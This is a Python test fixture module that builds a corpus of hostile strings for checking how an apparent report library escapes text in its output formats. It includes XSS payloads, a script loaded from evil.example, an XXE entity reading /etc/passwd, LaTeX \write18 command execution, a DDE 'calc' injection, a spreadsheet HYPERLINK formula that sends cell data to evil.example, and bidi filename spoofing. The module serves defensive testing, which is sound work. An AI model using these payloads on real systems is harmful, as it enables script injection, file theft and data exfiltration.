"""The corpus of hostile texts: what people, programs and attackers put where a name was expected.

``TEXTS`` maps a name, which tests show, to a text. ``report`` puts a text wherever a report may have one.
"""

from unicodedata import normalize

import osce_tracker as ot
from osce_tracker.errors import MissingExtraError
from osce_tracker.formats.report import KeyFigure, RowGroup
from osce_tracker.plot.chart import Chart

#: What records reject where a text must say something.
BLANK = {"empty": "", "blank": " \t\n\u00a0 "}

_LINES = {
    "line breaks": "\n one\ntwo\r\nthree\rfour\x0bfive\x0csix\x85seven\u2028eight\u2029nine\n\nten \n",
    "blanks": "  two  blanks\t and \u00a0\u2003 a tab ",
}
_MARKDOWN = {
    "markdown table": "| a | b || c \\| d |\n| --- | --- |\n| e | f |",
    "markdown inline": "`code` ``two`` *bold* __strong__ ~~gone~~ _x_ @someone #1 :tada: ends with \\",
    "markdown blocks": "# heading\n===\n---\n- a\n1. b\n> c\n```\nfence\n```",
    "markdown links": "[a](javascript:alert(1)) ![i](data:x) <https://x.org>\n[a]: https://x.org\n[a]",
}
_HTML = {
    "scripts": "<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT >",
    "handlers": '<img src=x onerror="alert(1)"><svg/onload=alert(1)><animate onbegin=alert(1)>',
    "out of an attribute": "\" onmouseover=\"alert(1)\" x=' onfocus='alert(1)' autofocus='",
    "script addresses": "javascript:alert(1) data:text/html;base64,PHM+ vbscript:msgbox(1)",
    "closing tags": "</title></style></script></text></svg></td></tr></table></main></body></html><h1>x",
    "entities and comments": "<!-- x --> <![endif]--> &lt;b&gt; &amp;amp; &copy &#60;b&#62; &#0; &notit;",
    "embedded pages": '<iframe srcdoc="<script>x</script>"></iframe><base href=//x><meta http-equiv=x>',
    "foreign elements": "<template><slot name=x></template><math><mtext><mglyph><style><img onerror=x>",
}
_XML = {
    "xml": "]]> <![CDATA[ x ]]> <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e; <?php echo 1 ?>",
    "office elements": '</w:t></w:r><w:r><w:instrText>DDEAUTO "calc"</w:instrText></w:r></v><f>1+1</f>',
    "noncharacters": "a\ufffeb\uffffc \U0001fffe\U0010ffff\ufdd0",
}
_LATEX = {
    "latex commands": r"\input{/etc/passwd} \write18{id} \end{document} } { \def\x{\x}\x \csname x\endcsname",
    "latex signs": "50 % of $x_1$ & #2 {a} ~^ \\\\ -- '' `` ,, << >> ?` !` ^^4d^^M \"a\" 'b' `c`",
    "latex star": "*[3em] x",
    "latex bracket": "[1em] x",
}
_SHEETS = {
    "formula": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "formula after a tab": "\t=1+1",
    "full-width formula": "＠SUM(1+1) ＝ ＋ －",
    "excel codes": "_x0041_ _x000D_ _x005F_x0041_ _xD83D_ #REF!",
    "number": "007",
    "csv quotes": '"a\r\n=1+1,"b"; c\td',
    "sheet name": "[a]:*?/\\ History" + "\U0001f600" * 9 + "'s end",
    "header codes": '&P &N &&D &"Arial,Bold"&12 x',
}
_SIGNS = {
    "control characters": "".join(map(chr, (*range(32), *range(127, 160)))) + "\x1b[31mred\x1b]0;t\x07",
    "bidi": "\u202egpj.exe\u202c \u2066a\u2069 \u200e\u200f\u061c \ufeffa",
    "emoji and marks": "👩\u200d🚀 🏳️\u200d🌈 🇫🇮 👍🏽 z\u0301\u0316\u0321 a\u200bb\u00adc \ue000 \U000e0041",
    "scripts": "Қазақстан საქართველო Հայաստան ᠮᠣᠩᠭᠣᠯ مرحبا İstanbul 欧洲 ㍿",
}
_CODE = {
    "templates": "{{ 7*7 }} {% raw %} {# x #} %s %(x)s {0} {x.__class__} %% $\\frac{1}{2}$ $(id) `id`'; --"
}
_LINKS = {
    "address": "https://example.org/a_b?c=d&e=f#g",
    "address with markup": "http://example.org/*a*|b`c`[d](e)~f~\\?a=1&lt;=2&#106;",
    "address in a text": "javascript:alert(1)//https://example.org/ <script>x</script> http://[bad",
    "long address": f"https://example.org/{'a' * 2_500}",
}
_LONG = {"long word": "w" * 5_000, "long text": "Four words of text, " * 2_000}

#: What records accept.
RECORD_TEXTS = {
    name: normalize("NFC", text)
    for name, text in {
        **_LINES,
        **_MARKDOWN,
        **_HTML,
        **_XML,
        **_LATEX,
        **_SHEETS,
        **_SIGNS,
        **_CODE,
        **_LINKS,
        **_LONG,
    }.items()
}
#: All texts by name.
TEXTS = {**BLANK, **RECORD_TEXTS}


def source(text: str) -> ot.Source:
    """Return a source with a text as its title and publisher, if it accepts it."""
    words = text if text.strip() else "x"
    return ot.Source(
        url="https://osce.org/a_b?c=1&d=%20#e~f", title=words, publisher=words, publisher_type="osce"
    )


def table(text: str, key: str = "t") -> ot.Table:
    """Return a table of two groups with a text wherever one may be; two of its columns hold long texts."""
    columns = (
        ot.Column("a", text),
        ot.Column("b", text, kind="number"),
        ot.Column("c", text, detail=True),
        ot.Column("d", text, detail=True),
        ot.Column("s", text, kind="sources"),
    )
    rows = ((text, text, text, text, (source(text),)), ("A", None, text, None, None))
    groups = (RowGroup(key="g", title=text, size=1, note=text), RowGroup(key="h", title="H", size=1))
    return ot.Table(title=text, key=key, columns=columns, rows=rows, groups=groups, notes=(text,))


def _no_picture(*_: int) -> None:
    raise MissingExtraError("plot", "Plots")


def report(text: str, tables: int = 1) -> ot.Report:
    """Return a report with a text wherever one may be, and a chart that can't be drawn."""
    return ot.Report(
        title=text,
        headline=text,
        subtitle=text,
        figures=(KeyFigure(key="f", label=text, value=7, note=text),),
        charts=(Chart(title=text, key="c", text=text, draw=_no_picture),),
        tables=tuple(table(text, f"t{n}") for n in range(tables)),
        notes=(text,),
    )


def everything(texts: dict[str, str] | None = None) -> ot.Report:
    """Return one report with all texts, or these, as cells, long texts and notes."""
    chosen = TEXTS if texts is None else texts
    columns = (ot.Column("name", "Name"), ot.Column("text", "Text"), ot.Column("more", "More", detail=True))
    rows = tuple((name, text, text) for name, text in chosen.items())
    whole = ot.Table(title="All texts", key="all", columns=columns, rows=rows, notes=tuple(chosen.values()))
    return ot.Report(title="Hostile texts", tables=(whole,), notes=tuple(chosen.values()))
